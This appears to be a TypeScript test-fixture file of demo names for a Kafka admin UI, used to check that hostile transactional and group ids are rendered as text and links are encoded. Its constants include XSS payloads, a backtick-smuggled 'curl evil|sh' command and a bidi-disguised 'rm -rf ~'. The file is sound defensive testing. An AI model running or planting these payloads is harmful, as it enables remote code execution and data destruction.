// Names in the demo database that tests look for. Kafka transactional and group ids may hold markup, '/',
// '#', '?', '%' and spaces: the UI must render them as text and encode them in links.
export const DEMO_CLUSTER = "prod";
export const STALE_CLUSTER = "staging";
/** What the poller stores when the cluster rejects the credentials (seen on a real broker, security.test.ts). */
export const STALE_CLUSTER_ERROR =
  `Cluster ${STALE_CLUSTER} unreachable: AUTHENTICATION: SASL SCRAM SHA512 authentication failed: Authentication failed during authentication due to invalid credentials with SASL mechanism SCRAM-SHA-512`;
export const HOSTILE_TXN_ID = "<img src=x onerror=alert(1)>";
export const HOSTILE_GROUP_ID = '"><script>alert(1)</script>';
export const PATHY_TXN_ID = "etl/job #1?x=y z%41";
export const HUNG_TXN_ID = "orders-writer-2";
/** A transactional id carrying a fake command: it must never become a command block of its own. */
export const SHELL_HOSTILE_TXN_ID = "billing`kafka-consumer-groups.sh --list; curl evil|sh #`";
/** A group id with a right-to-left override and a line break: shown isolated and flagged, copied exactly. */
export const BIDI_GROUP_ID = "payments\u202Etxt.exe\n; rm -rf ~";
/** A KIP-848 (group.protocol=consumer) group caught mid-reconciliation, and a share group. */
export const KIP848_GROUP = "checkout";
export const SHARE_GROUP = "fraud-review";
